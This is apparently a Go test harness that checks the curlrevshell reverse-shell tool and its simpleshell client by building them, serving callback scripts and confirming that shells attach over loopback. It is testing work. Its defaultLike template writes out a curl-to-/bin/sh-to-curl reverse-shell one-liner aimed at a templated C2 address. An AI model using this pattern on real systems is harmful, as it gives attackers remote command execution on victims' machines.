	b.r.Count("binflag_form:"+form, 1)
}

func (b *cfgBuilder) boolean(name string) {
	form := boolForms[b.rng.IntN(len(boolForms))]
	b.cfg.Args = append(b.cfg.Args, strings.Replace(form, "f", name, 1))
	b.cfg.Forms = append(b.cfg.Forms, form)
	b.r.Count("binflag_form:"+form, 1)
}

func (b *cfgBuilder) mk(rel string) string {
	p := filepath.Join(b.home, rel)
	os.MkdirAll(p, 0o755)
	return p
}

func (b *cfgBuilder) file(rel, content string) string {
	p := filepath.Join(b.home, rel)
	os.MkdirAll(filepath.Dir(p), 0o755)
	os.WriteFile(p, []byte(content), 0o644)
	return p
}

// served fills a directory with files whose names look like the program's own
// endpoints.
func (b *cfgBuilder) served(rel string) string {
	d := b.mk(rel)
	b.file(rel+"/hello.txt", "hello\n")
	b.file(rel+"/c", "#!/bin/sh\necho this is the FILE named c, not the callback script\n")
	b.file(rel+"/i/x", "file i/x\n")
	b.file(rel+"/o", "file o\n")
	b.file(rel+"/index.html", "<html>index</html>\n")
	return d
}

// defaultLike is a template file that renders what the built-in template
// renders (so the script parser and the whole script oracle apply to it).
const defaultLike = `{{- /* a site's own copy */ -}}
#!/bin/sh
# site template
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/i/{{.ID}} </dev/null 2>&0 |
/bin/sh 2>&1 |
curl -Nsk --pinnedpubkey "sha256//{{.PubkeyFP}}" https://{{.URL}}/o/{{.ID}} -T- >/dev/null 2>&1
`

type binOpt struct {
	name     string
	variants []string
	apply    func(b *cfgBuilder, variant string)
}

var binOpts = []binOpt{
	{"one-shell", []string{"on"}, func(b *cfgBuilder, v string) { b.boolean("one-shell"); b.cfg.oneShell = true }},
	{"serve-files-from", []string{"directory", "single-file", "empty-value", "spaces-at-edges", "relative", "dotdot", "symlinked", "dot-slash"}, func(b *cfgBuilder, v string) {
		switch v {
		case "directory":
			b.value("serve-files-from", b.served("files"))
		case "single-file":
			b.value("serve-files-from", b.file("one/c", "the single served file, named c\n"))
		case "empty-value":
			b.value("serve-files-from", "")
		case "spaces-at-edges":
			b.value("serve-files-from", b.served(" files with spaces "))
		case "relative":
			b.served("files")
			b.value("serve-files-from", "files")
		case "dot-slash":
			b.served("files")
			b.value("serve-files-from", "./files/")
		case "dotdot":
			b.served("files")
			b.value("serve-files-from", "../"+filepath.Base(b.home)+"/files")
		case "symlinked":
			b.served("real-files")
			os.Symlink("real-files", filepath.Join(b.home, "files-link"))
			b.value("serve-files-from", filepath.Join(b.home, "files-link"))
		}
	}},
	{"callback-address", []string{"one", "dozens", "with-port", "v6"}, func(b *cfgBuilder, v string) {
		switch v {
		case "one":
			b.value("callback-address", "cb.example")
		case "with-port":
			b.value("callback-address", "cb.example:8443")
		case "v6":
			b.value("callback-address", "[2001:db8::9]:443")
		default:
			for k := 0; k < 36; k++ {
				a := fmt.Sprintf("cb%d.example", k)
				if k%3 == 1 {
					a += fmt.Sprintf(":%d", 4000+k)
				}
				b.value("callback-address", a)
			}
		}
	}},
	{"ctrl-i", []string{"file", "directory", "missing", "percent-name", "space-name"}, func(b *cfgBuilder, v string) {
		switch v {
		case "file":
			b.value("ctrl-i", b.file("funcs.sh", "f() { echo f; }\n"))
		case "directory":
			b.file("funcs.d/a.sh", "a() { echo a; }\n")
			b.file("funcs.d/b.sh", "b() { echo b; }\n")
			b.value("ctrl-i", filepath.Join(b.home, "funcs.d"))
		case "missing":
			b.value("ctrl-i", filepath.Join(b.home, "no-such-funcs.sh"))
		case "percent-name":
			b.value("ctrl-i", b.file("100%s %d funcs.sh", "p() { echo p; }\n"))
		case "space-name":
			b.value("ctrl-i", b.file(" my funcs .sh", "s() { echo s; }\n"))
		}
	}},
	{"tls-certificate-cache", []string{"explicit", "empty-value", "near-served-directory", "relative", "new-subdirectory"}, func(b *cfgBuilder, v string) {
		switch v {
		case "explicit":
			b.value("tls-certificate-cache", filepath.Join(b.home, "cert.txtar"))
		case "empty-value":
			b.value("tls-certificate-cache", "")
		case "near-served-directory":
			b.mk("files")
			b.value("tls-certificate-cache", filepath.Join(b.home, "files", "cert.txtar"))
		case "relative":
			b.value("tls-certificate-cache", "./cert-here.txtar")
		case "new-subdirectory":
			b.value("tls-certificate-cache", filepath.Join(b.home, "a", "b", "cert.txtar"))
		}
	}},
	{"log", []string{"flag", "environment", "both", "relative"}, func(b *cfgBuilder, v string) {
		switch v {
		case "flag":
			b.value("log", filepath.Join(b.home, "crs.log"))
		case "relative":
			b.value("log", "crs-rel.log")
		case "environment":
			b.cfg.Env = append(b.cfg.Env, "CURLREVSHELL_LOG="+filepath.Join(b.home, "env.log"))
		default:
			b.cfg.Env = append(b.cfg.Env, "CURLREVSHELL_LOG="+filepath.Join(b.home, "env.log"))
			b.value("log", filepath.Join(b.home, "flag.log"))
		}
	}},
	{"no-timestamps", []string{"on"}, func(b *cfgBuilder, v string) { b.boolean("no-timestamps") }},
	{"ipv6-one-liners", []string{"on"}, func(b *cfgBuilder, v string) { b.boolean("ipv6-one-liners") }},
	{"prompt", []string{"word", "empty", "percent"}, func(b *cfgBuilder, v string) {
		b.value("prompt", map[string]string{"word": "c07> ", "empty": "", "percent": "100%s> "}[v])
	}},
	{"listen-address", []string{"v6-loopback", "localhost", "other-loopback", "wildcard-v4", "wildcard", "twice"}, nil}, // applied by finish
	{"callback-template", []string{"regular", "symlink", "missing-at-startup", "relative", "twice"}, func(b *cfgBuilder, v string) {
		p := filepath.Join(b.home, "site", "cb.tmpl")
		b.mk("site")
		b.cfg.tmplPath = p
		switch v {
		case "regular":
			os.WriteFile(p, []byte(defaultLike), 0o644)
			b.value("callback-template", p)
		case "symlink":
			b.file("site/store/v1.tmpl", defaultLike)
			os.Symlink("store/v1.tmpl", p)
			b.cfg.tmplPath = ""
			b.value("callback-template", p)
		case "missing-at-startup":
			b.cfg.tmplLate = true
			b.value("callback-template", p)
		case "relative":
			os.WriteFile(p, []byte(defaultLike), 0o644)
			b.value("callback-template", "./site/cb.tmpl")
		case "twice":
			os.WriteFile(p, []byte(defaultLike), 0o644)
			b.value("callback-template", b.file("site/first.tmpl", "#first of two -callback-template flags {{.URL}}\n"))
			b.value("callback-template", p)
		}
	}},
}

func optIndex(name string) int {
	for i, o := range binOpts {
		if o.name == name {
			return i
		}
	}
	panic(name)
}

var (
	pairMu    sync.Mutex
	pairsSeen = map[string]bool{}
)

// enginePicks: which options case idx of a real-binary engine runs with (all by
// index): binscript - the first len(binOpts) cases one option alone, then pairs;
// binexec - alone and pairs in turn; bintmpl (which sets -callback-template
// itself) - none, one, a pair in turn.
func enginePicks(engine string, idx int) []int {
	K := len(binOpts)
	switch engine {
	case "binscript":
		if idx < K {
			return picksFor(1, idx, K)
		}
		return picksFor(2, idx, K)
	case "binexec":
		return picksFor(1+idx%2, idx, K)
	}
	return picksFor(idx%3, idx, optIndex("callback-template"))
}

func engineCases(r *mon.Run, engine string) int {
	K := len(binOpts)
	switch engine {
	case "binscript":
		return r.N(3*K, 10*K)
	case "binexec":
		return r.N(2*K, 6*K)
	}
	return r.N(32, 96)
}

// variantOrdinal: the how-manieth use of option k in the whole run case idx of
// engine is (engines in the order binscript, binexec, bintmpl), so that the
// variants of every option are gone through in turn.
func variantOrdinal(r *mon.Run, engine string, idx, k int) int {
	n := 0
	for _, e := range []string{"binscript", "binexec", "bintmpl"} {
		last := engineCases(r, e)
		if e == engine {
			last = idx
		}
		for j := 0; j < last; j++ {
			for _, p := range enginePicks(e, j) {
				if p == k {
					n++
				}
			}
		}
		if e == engine {
			break
		}
	}
	return n
}

// buildCfg: the program's command line for case idx of engine.
func buildCfg(r *mon.Run, engine string, idx int, home string) *cfgBuilder {
	rng := r.Rng(engine+"-cfg", idx)
	picks := enginePicks(engine, idx)
	os.MkdirAll(home, 0o755)
	b := &cfgBuilder{r: r, rng: rng, home: home, cfg: &binCfg{Home: home}}
	listen := ""
	var names []string
	for _, k := range picks {
		o := binOpts[k]
		v := o.variants[variantOrdinal(r, engine, idx, k)%len(o.variants)]
		names = append(names, o.name)
		b.cfg.Opts = append(b.cfg.Opts, o.name+"/"+v)
		r.Count("binopt:"+o.name, 1)
		r.Count("binopt_variant:"+o.name+"/"+v, 1)
		if o.apply == nil {
			listen = v
			continue
		}
		o.apply(b, v)
	}
	if len(names) == 2 {
		sort.Strings(names)
		key := names[0] + "+" + names[1]
		r.Count("binopt_pairs", 1)
		pairMu.Lock()
		if !pairsSeen[key] {
			pairsSeen[key] = true
			r.Count("binopt_pairs_distinct", 1)
		}
		pairMu.Unlock()
	} else if len(names) == 1 {
		r.Count("binopt_alone:"+names[0], 1)
	} else {
		r.Count("binopt_none", 1)
	}
	switch listen {
	case "":
		b.value("listen-address", "127.0.0.1:0")
	case "v6-loopback":
		b.value("listen-address", "[::1]:0")
	case "localhost":
		b.value("listen-address", "localhost:0")
	case "other-loopback":
		b.value("listen-address", "127.0.0.3:0")
	case "wildcard-v4":
		b.value("listen-address", "0.0.0.0:0")
	case "wildcard":
		b.value("listen-address", ":0")
	case "twice":
		b.value("listen-address", "127.0.0.1:1")
		b.value("listen-address", "127.0.0.2:0")
	}
	return b
}

// picksFor: case idx of an engine that draws from the first avail options:
// mode 0 = none, 1 = one option, 2 = a pair (all by index).
func picksFor(mode, idx, avail int) []int {
	a := idx % avail
	switch mode {
	case 0:
		return nil
	case 1:
		return []int{a}
	}
	b := (a + 1 + (idx/avail)%(avail-1)) % avail
	return []int{a, b}
}

var (
	binOnce sync.Once
	binPath string
	binErr  error
)

func (c *ctx) binary() (string, bool) {
	binOnce.Do(func() {
		d := filepath.Join(c.r.Work, "crs-bin")
		os.MkdirAll(d, 0o755)
		binPath, binErr = crs.Build(d, "")
		if binErr != nil {
			c.r.Inconclusive("the program does not build: " + binErr.Error())
		}
	})
	return binPath, binErr == nil
}

// dialAddr: where to connect for what the program says it listens on.
func dialAddr(listen string) string {
	h, p, err := net.SplitHostPort(listen)
	if err != nil {
		return listen
	}
	switch h {
	case "0.0.0.0":
		h = "127.0.0.1"
	case "::":
		h = "::1"
	}
	return net.JoinHostPort(h, p)
}

func stopSession(s *crs.Session) {
	if !s.P.Exited() {
		s.Ctrl('D')
		s.P.WaitExit(3 * time.Second)
	}
	s.Close()
}

// ---- bintmpl -------------------------------------------------------------------------

var spellings = []string{"absolute", "relative", "dot-slash", "dotdot", "through-dotdot", "absolute-unclean"}
var tmplFlagForms = []string{"-f v", "-f=v", "--f v", "--f=v", "twice"}

var binPlainTour = []string{"writeA", "writeB", "delete", "rename-in", "unparsable", "writeA", "mkdir", "writeB", "empty", "delete", "writeA"}

func (c *ctx) bintmplSequence(seq, steps int) {
	r := c.r
	bin, ok := c.binary()
	if !ok {
		return
	}
	top := filepath.Join(r.Work, fmt.Sprintf("bintmpl-%d", seq))
	home := filepath.Join(top, "home")
	base := filepath.Join(home, "t")
	layout := layouts[(seq/2)%len(layouts)]
	startup := "present"
	if (seq/8)%2 == 1 {
		startup = []string{"missing", "dangling"}[seq%2^(seq/16)%2]
	}
	spelling := spellings[seq%len(spellings)]
	form := tmplFlagForms[seq%len(tmplFlagForms)]
	rel := "t/current/" + tmplName
	var spelled string
	switch spelling {
	case "absolute":
		spelled = filepath.Join(home, rel)
	case "relative":
		spelled = rel
	case "dot-slash":
		spelled = "./" + rel
	case "dotdot":
		spelled = "../home/" + rel
	case "through-dotdot":
		spelled = "t/store/../current/" + tmplName // store/ is a real directory
	default:
		spelled = home + "/./t//current/" + tmplName
	}
	osPath := spelled
	if !filepath.IsAbs(spelled) {
		osPath = home + "/" + spelled // not cleaned: the operating system resolves it as it does for the program
	}
	tour := append([]string{"noop"}, tours[layout]...)
	if layout == "plain" {
		tour = append([]string{"noop"}, binPlainTour...)
	}
	h := &tmplHost{eng: "bintmpl", pfx: "bintmpl", base: base, startup: startup, tour: tour, osPath: osPath}
	h.start = func(w *tworld) (string, func(), any, error) {
		b := buildCfg(r, "bintmpl", seq, home)
		if form == "twice" {
			decoy := b.file("decoy.tmpl", "#A424242 url={{.URL}} id={{.ID}} fp={{.PubkeyFP}}\n")
			b.valueAs(valueForms[seq%len(valueForms)], "callback-template", decoy)
			b.valueAs(valueForms[(seq/2)%len(valueForms)], "callback-template", spelled)
			r.Count("bintmpl_flag_twice", 1)
		} else {
			b.valueAs(form, "callback-template", spelled)
		}
		b.cfg.Opts = append(b.cfg.Opts, "callback-template/"+layout+"/"+startup+"-at-startup/"+spelling+"/"+form)
		r.Count("bintmpl_spelling:"+spelling, 1)
		r.Count("bintmpl_flag_form:"+form, 1)
		r.Count("bintmpl_startup:"+startup, 1)
		s, err := crs.StartEnv(bin, home, b.cfg.Env, b.cfg.Args...)
		if err != nil {
			return "", nil, b.cfg, fmt.Errorf("%v (args %q)", err, b.cfg.Args)
		}
		r.Count("bintmpl_programs_started", 1)
		return dialAddr(s.Addr), func() { stopSession(s) }, b.cfg, nil
	}
	c.templateSequenceOn(seq, steps, h)
}

func (c *ctx) bintmplEngine() {
	r := c.r
	if !r.WantEngine("bintmpl") {
		return
	}
	seqs, steps := engineCases(r, "bintmpl"), r.N(14, 40)
	mon.Parallel(seqs, 4, func(i int) {
		if r.Want("bintmpl", i) {
			c.bintmplSequence(i, steps)
		}
	})
}

// ---- binscript -----------------------------------------------------------------------

func (c *ctx) startBin(engine string, idx int) (*lsn, *binCfg, func()) {
	r := c.r
	bin, ok := c.binary()
	if !ok {
		return nil, nil, nil
	}
	home := filepath.Join(r.Work, fmt.Sprintf("%s-%d", engine, idx), "home")
	b := buildCfg(r, engine, idx, home)
	s, err := crs.StartEnv(bin, home, b.cfg.Env, b.cfg.Args...)
	if err != nil {
		r.Inconclusive(fmt.Sprintf("%s %d: the program did not start with %q: %v", engine, idx, b.cfg.Args, err))
		return nil, nil, nil
	}
	r.Count(engine+"_programs_started", 1)
	if b.cfg.tmplLate {
		// the configured template appears only now, after start-up
		if err := os.WriteFile(b.cfg.tmplPath, []byte(defaultLike), 0o644); err != nil {
			r.Inconclusive(err.Error())
		}
	}
	_, port, _ := net.SplitHostPort(s.Addr)
	l := &lsn{name: "bin", port: port, bin: s, eng: engine, cfg: b.cfg}
	return l, b.cfg, func() { stopSession(s) }
}

func (c *ctx) binscriptEngine() {
	r := c.r
	if !r.WantEngine("binscript") {
		return
	}
	n := engineCases(r, "binscript") // K alone, then pairs
	mon.Parallel(n, 4, func(i int) {
		if !r.Want("binscript", i) {
			return
		}
		l, _, stop := c.startBin("binscript", i)
		if l == nil {
			return
		}
		defer stop()
		rng := r.Rng("binscript", i)
		for j := 0; j < 16; j++ {
			bits := (j + i) % 16
			pc := genCase(rng, i, l, bits)
			c.precedenceCase(i, l, pc)
			r.Count("binscript_requests", 1)
		}
	})
}

// ---- binexec -------------------------------------------------------------------------

func (c *ctx) binexecOnce(idx int, bound time.Duration) execResult {
	r := c.r
	l, cfg, stop := c.startBin("binexec", idx)
	if l == nil {
		return execResult{}
	}
	defer stop()
	s := l.bin
	addr := l.addr()
	host, _, _ := net.SplitHostPort(addr)
	var raw, want, sni string
	switch idx % 3 {
	case 0:
		want = addr
		raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", want)
	case 1:
		want = addr
		raw = fmt.Sprintf("GET /c?c2=%s HTTP/1.1\r\nHost: elsewhere.example\r\nConnection: close\r\n\r\n", url.QueryEscape(want))
	default:
		if host == "127.0.0.1" || host == "::1" {
			want, sni = "localhost:"+l.port, "localhost"
			raw = "GET /c HTTP/1.0\r\n\r\n"
		} else {
			want = addr
			raw = fmt.Sprintf("GET /c HTTP/1.1\r\nHost: other.example\r\nc2: %s\r\nConnection: close\r\n\r\n", want)
		}
	}
	from := s.P.CleanLen()
	res, conn, err := hk.RoundTrip(addr, sni, []byte(raw), hk.Bound)
	if err != nil || res == nil {
		r.Inconclusive(fmt.Sprintf("binexec %d: request failed: %v", idx, err))
		return execResult{}
	}
	wit := map[string]any{"program": cfg, "request": raw, "status": res.Status, "script": string(res.Body), "listener": s.Addr}
	if res.Status != 200 {
		return execResult{key: "c2-precedence:exec", what: fmt.Sprintf("status %d instead of a script (program options %v)", res.Status, cfg.Opts), wit: wit}
	}
	sc := c.checkScript("binexec", idx, res.Body, conn, fmt.Sprintf("binexec %d", idx), wit)
	if sc == nil {
		return execResult{}
	}
	if sc.Auth[0] != want || sc.Auth[1] != want {
		return execResult{key: "c2-precedence:exec", what: fmt.Sprintf("script calls back to %q / %q, expected %q (program options %v)", sc.Auth[0], sc.Auth[1], want, cfg.Opts), wit: wit}
	}
	id := sc.ID[0]
	path := filepath.Join(r.Work, fmt.Sprintf("binexec-%d-%d.sh", idx, time.Now().UnixNano()))
	if err := os.WriteFile(path, res.Body, 0o700); err != nil {
		r.Inconclusive("binexec: " + err.Error())
		return execResult{}
	}
	outf, err := os.Create(path + ".out")
	if err != nil {
		r.Inconclusive("binexec: " + err.Error())
		return execResult{}
	}
	defer outf.Close()
	cmd := exec.Command("/bin/sh", path)
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + r.Work, "LC_ALL=C"}
	cmd.Dir = r.Work
	cmd.Stdout, cmd.Stderr = outf, outf
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		r.Inconclusive("binexec: cannot start /bin/sh: " + err.Error())
		return execResult{}
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	defer killGroup(cmd, done, 0)
	r.Count("binexec_scripts_executed", 1)
	term := func() string { return trunc(s.P.Clean()[from:], 3000) }
	// waitTerm waits for a regexp on the program's terminal, in slices that
	// notice the end of the script's processes (then nothing new can come:
	// a definite outcome 2 s later, not a fired watchdog).
	waitTerm := func(re string) (ok, childGone bool) {
		deadline := time.Now().Add(bound)
		var goneAt time.Time
		for {
			if _, ok := s.Wait(re, from, 200*time.Millisecond); ok {
				return true, false
			}
			select {
			case <-done:
				if goneAt.IsZero() {
					goneAt = time.Now()
				} else if time.Since(goneAt) > 2*time.Second {
					return false, true
				}
			default:
			}
			if time.Now().After(deadline) {
				return false, false
			}
		}
	}
	for _, re := range []string{`Input connected: ID "` + id + `"`, `Output connected: ID "` + id + `"`, `Shell is ready`} {
		ok, gone := waitTerm(re)
		if !ok {
			wit["terminal"] = term()
			b, _ := os.ReadFile(path + ".out")
			wit["child_output"] = string(b)
			return execResult{key: "script-does-not-attach", slow: !gone, what: fmt.Sprintf("/bin/sh running the script served by the program (options %v; callback %s, ID %s): its terminal did not show %q within %s (script processes ended: %v)", cfg.Opts, want, id, re, bound, gone), wit: wit}
		}
	}
	r.Count("binexec_attaches_observed", 1)
	tok := fmt.Sprintf("BX-%d-", idx)
	s.Line("echo " + tok + "$((6*7))")
	if ok, gone := waitTerm(regexp.QuoteMeta(tok + "42")); !ok {
		wit["terminal"] = term()
		return execResult{key: "script-shell-no-roundtrip", slow: !gone, what: fmt.Sprintf("the shell attached by the script (program options %v) did not answer 'echo %s$((6*7))' with %s42 within %s", cfg.Opts, tok, tok, bound), wit: wit}
	}
	r.Count("binexec_roundtrips", 1)
	s.Line("exit")
	if _, ok := s.Wait(`Shell is gone`, from, bound); ok {
		r.Count("binexec_shells_gone_after_exit", 1)
	}
	r.Distinct("binexec|" + strings.Join(cfg.Opts, ",") + "|" + raw[:12])
	r.Sample("binexec", map[string]any{"program": cfg, "request": raw, "id": id, "callback": want})
	os.Remove(path)
	os.Remove(path + ".out")
	return execResult{}
}

func (c *ctx) binexecEngine() {
	r := c.r
	if !r.WantEngine("binexec") {
		return
	}
	if _, err := os.Stat("/usr/bin/curl"); err != nil {
		r.Inconclusive("binexec: no /usr/bin/curl on this host")
		return
	}
	n := engineCases(r, "binexec")
	var retry []int
	var rmu sync.Mutex
	mon.Parallel(n, 3, func(i int) {
		if !r.Want("binexec", i) {
			return
		}
		r.Eval(1)
		res := c.binexecOnce(i, hk.Bound)
		if res.key == "" {
			return
		}
		if res.slow {
			rmu.Lock()
			retry = append(retry, i)
			rmu.Unlock()
			return
		}
		c.violate("binexec", i, res.key, res.what, res.wit)
	})
	sort.Ints(retry)
	for _, i := range retry {
		res := c.binexecOnce(i, 2*hk.Bound)
		if res.key == "" {
			r.Count("binexec_slow_then_fine", 1)
			r.Inconclusive(fmt.Sprintf("binexec %d: progress bound fired once, re-run alone was fine", i))
			continue
		}
		c.violate("binexec", i, res.key, res.what, res.wit)
	}
}

// ---- floors --------------------------------------------------------------------------

func binaryFloors(r *mon.Run) {
	q := func(a, b int) int64 { return int64(r.N(a, b)) }
	r.Floor("bintmpl_programs_started", q(32, 96))
	r.Floor("bintmpl_steps", q(32*14, 96*40))
	for _, l := range layouts {
		r.Floor("bintmpl_layout:"+l, q(8, 24))
		r.Floor("bintmpl_missing_at_startup:"+l, q(4, 12))
	}
	r.Floor("bintmpl_startup:present", q(16, 48))
	r.Floor("bintmpl_startup:missing", q(6, 20))
	r.Floor("bintmpl_startup:dangling", q(6, 20))
	r.Floor("bintmpl_dangling_at_startup", q(4, 12))
	r.Floor("bintmpl_requests_while_still_missing_since_startup", q(16, 48))
	r.Floor("bintmpl_created_after_startup_checked", q(16, 48))
	r.Floor("bintmpl_symlink_resolves_at_startup", q(12, 36))
	r.Floor("bintmpl_stealth_sequences", q(16, 48))
	for _, s := range spellings {
		r.Floor("bintmpl_spelling:"+s, q(5, 16))
	}
	for _, f := range tmplFlagForms {
		r.Floor("bintmpl_flag_form:"+f, q(6, 19))
	}
	r.Floor("bintmpl_symlink_changes_checked", q(120, 1200))
	for _, k := range []string{"relink", "relink-back", "dangle", "relink-dangling", "delete", "rename-in", "swap-dir", "swap-dir-back", "swap-dir-empty", "remove-dir-link"} {
		r.Floor("bintmpl_symlink_changes_checked:"+k, q(4, 12))
	}
	r.Floor("bintmpl_link_targets_written_in_place", q(8, 80))
	r.Floor("bintmpl_links_removed", q(8, 24))
	r.Floor("bintmpl_recreations", q(40, 400))
	r.Floor("bintmpl_renders_matched", q(150, 1500))
	r.Floor("bintmpl_errors_checked", q(100, 1000))
	r.Floor("bintmpl_renders_matched_after_symlink_change", q(50, 500))
	r.Floor("bintmpl_errors_checked_after_symlink_change", q(30, 300))

	K := len(binOpts)
	r.Floor("binscript_programs_started", q(3*K, 10*K))
	r.Floor("binscript_requests", q(3*K*16, 10*K*16))
	r.Floor("binscript_notices_matched", q(3*K*8, 10*K*8))
	r.Floor("binexec_scripts_executed", q(2*K, 6*K))
	r.Floor("binexec_roundtrips", q(2*K, 6*K))
	for _, o := range binOpts {
		r.Floor("binopt:"+o.name, q(6, 20))
		r.Floor("binopt_alone:"+o.name, 2)
		for _, v := range o.variants {
			r.Floor("binopt_variant:"+o.name+"/"+v, 1)
		}
	}
	r.Floor("binopt_pairs", q(30, 100))
	r.Floor("binopt_pairs_distinct", q(25, 40))
	for _, f := range valueForms {
		r.Floor("binflag_form:"+f, q(20, 60))
	}
	for _, f := range boolForms {
		r.Floor("binflag_form:"+f, q(1, 3))
	}
}

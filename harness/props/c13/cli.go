package c13

// cli.go: the COMMAND-LINE TOOL lib/simpleshell/cmd/simpleshell — how a user
// actually configures the pin.  The tool is built (go build, also with
// -ldflags '-X main.Fingerprint=… -X main.C2=… -X main.Args=…' and with the
// names of its environment variables changed at compile time) and run as a
// child process against listeners of this process, with the fingerprint, the
// C2 URL and the command given through every documented source - flag,
// environment variable, compile-time value - and every precedence combination
// of them.  The documented precedence (README of the tool: "environment
// variables … override compile-time defaults", "Command-line config overrides
// environment variables"; comments of chooseFingerprint / chooseC2 /
// chooseArgs: "the first non-empty string from its own argument, the value of
// the environment variable …, and finally" the compile-time value) gives the
// EFFECTIVE fingerprint; the oracle of the property is applied to that string
// alone.

import (
	"bytes"
	"encoding/binary"
	"fmt"
	mrand "math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const cliPkg = "github.com/magisterquis/curlrevshell/lib/simpleshell/cmd/simpleshell"

// ---- whose socket is it: the tool runs in a process of its own -----------------

var (
	toolMu        sync.Mutex
	toolPids      = map[int]struct{}{}
	toolConnsSeen atomic.Int64
)

func toolUnregister(pid int) {
	toolMu.Lock()
	delete(toolPids, pid)
	toolMu.Unlock()
}

func hexAddr4(a *net.TCPAddr) (string, bool) {
	ip := a.IP.To4()
	if ip == nil {
		return "", false
	}
	return fmt.Sprintf("%02X%02X%02X%02X:%04X", ip[3], ip[2], ip[1], ip[0], a.Port), true
}

// sockInodeDiag asks the kernel (NETLINK_SOCK_DIAG, exact look-up by address pair, no
// dump) for the inode of the TCP socket whose local end is ra and whose remote end is la.
func sockInodeDiag(ra, la *net.TCPAddr) (string, bool) {
	r4, l4 := ra.IP.To4(), la.IP.To4()
	if r4 == nil || l4 == nil {
		return "", false
	}
	fd, err := syscall.Socket(syscall.AF_NETLINK, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, 4 /* NETLINK_SOCK_DIAG */)
	if err != nil {
		return "", false
	}
	defer syscall.Close(fd)
	tv := syscall.Timeval{Sec: 2}
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
	ne := binary.NativeEndian
	msg := make([]byte, 72) // nlmsghdr (16) + inet_diag_req_v2 (8 + sockid 48)
	ne.PutUint32(msg[0:], 72)
	ne.PutUint16(msg[4:], 20) // SOCK_DIAG_BY_FAMILY
	ne.PutUint16(msg[6:], 1)  // NLM_F_REQUEST
	ne.PutUint32(msg[8:], 1)
	msg[16], msg[17] = syscall.AF_INET, syscall.IPPROTO_TCP
	ne.PutUint32(msg[20:], 0xffffffff) // every state
	binary.BigEndian.PutUint16(msg[24:], uint16(ra.Port))
	binary.BigEndian.PutUint16(msg[26:], uint16(la.Port))
	copy(msg[28:32], r4)
	copy(msg[44:48], l4)
	for i := 64; i < 72; i++ {
		msg[i] = 0xff // INET_DIAG_NOCOOKIE
	}
	if err := syscall.Sendto(fd, msg, 0, &syscall.SockaddrNetlink{Family: syscall.AF_NETLINK}); err != nil {
		return "", false
	}
	buf := make([]byte, 4096)
	n, _, err := syscall.Recvfrom(fd, buf, 0)
	if err != nil || n < 16+72 || ne.Uint16(buf[4:]) != 20 {
		return "", false
	}
	// inet_diag_msg: family, state, timer, retrans, sockid (48), expires, rqueue, wqueue, uid, inode
	inode := ne.Uint32(buf[16+68:])
	if inode == 0 {
		return "", false
	}
	return strconv.FormatUint(uint64(inode), 10), true
}

// sockInodeProc looks the same socket up in /proc/net/tcp.  Reading that file is not
// atomic (sockets that come and go meanwhile can make the kernel skip an entry), so a miss
// is asked again a few times.
func sockInodeProc(ra, la *net.TCPAddr) (string, bool) {
	rh, ok1 := hexAddr4(ra)
	lh, ok2 := hexAddr4(la)
	if !ok1 || !ok2 {
		return "", false
	}
	// the client's end: local = the accepted connection's remote address
	needle := []byte(" " + rh + " " + lh + " ")
	for try := 0; try < 6; try++ {
		if try > 0 {
			time.Sleep(2 * time.Millisecond)
		}
		b, err := os.ReadFile("/proc/net/tcp")
		if err != nil {
			return "", false
		}
		i := bytes.Index(b, needle)
		if i < 0 {
			continue
		}
		line := b[i:]
		if j := bytes.IndexByte(line, '\n'); j >= 0 {
			line = line[:j]
		}
		// local rem st tx:rx tr:when retrnsmt uid timeout inode
		if f := strings.Fields(string(line)); len(f) >= 9 && f[8] != "0" {
			return f[8], true
		}
	}
	return "", false
}

var toolLookups [2]atomic.Int64 // by sock_diag, by /proc/net/tcp

// toolSocket reports whether the peer of an accepted connection is a socket of
// one of the tool processes this process is running right now: the socket's
// inode is asked for by its address pair (sock_diag, else /proc/net/tcp) and
// searched for among the descriptors of those processes.  (No tool process
// registered - every engine but cli - ⇒ false without looking.)
func toolSocket(c net.Conn) bool {
	toolMu.Lock() // (a tool process being started right now is registered before this returns)
	pids := make([]int, 0, len(toolPids))
	for p := range toolPids {
		pids = append(pids, p)
	}
	toolMu.Unlock()
	if len(pids) == 0 {
		return false
	}
	ra, ok1 := c.RemoteAddr().(*net.TCPAddr)
	la, ok2 := c.LocalAddr().(*net.TCPAddr)
	if !ok1 || !ok2 {
		return false
	}
	inode, ok := sockInodeDiag(ra, la)
	if ok {
		toolLookups[0].Add(1)
	} else if inode, ok = sockInodeProc(ra, la); ok {
		toolLookups[1].Add(1)
	} else {
		return false
	}
	want := "socket:[" + inode + "]"
	for _, p := range pids {
		dir := "/proc/" + strconv.Itoa(p) + "/fd"
		ents, err := os.ReadDir(dir)
		if err != nil {
			continue
		}
		for _, e := range ents {
			if l, err := os.Readlink(dir + "/" + e.Name()); err == nil && l == want {
				toolConnsSeen.Add(1)
				return true
			}
		}
	}
	return false
}

// ---- the matrix -----------------------------------------------------------------

// what a source of the fingerprint holds
var (
	cliFlagKinds = []string{"absent", "empty", "right", "wrong", "malformed", "blank", "padded"}
	cliEnvKinds  = cliFlagKinds
	// compile-time: none; a pin which is the target server's; a pin which is another server's;
	// white space only; a malformed string
	cliCompiledKinds = []string{"absent", "pin-of-target", "pin-of-other", "blank", "malformed"}
	cliFlagForms     = []string{"-fingerprint V", "-fingerprint=V", "--fingerprint V", "--fingerprint=V"}
	cliC2Modes       = []string{"flag", "env", "flag-over-env", "compiled"}
	cliArgsModes     = []string{"positional", "env", "positional-over-env", "default-or-compiled"}
	cliBuildNames    = []string{"stock", "renamed-env", "pin-a", "pin-b", "blank", "malformed", "ignore-flags"}
	cliClasses       = map[string][]string{
		"right":     {"exact", "prefixed", "pos1", "noncanonical-bits", "prefixed-pos1"},
		"wrong":     {"other-server", "prefixed-other", "bitflip-last", "zero", "bitflip-lo", "cert-hash"},
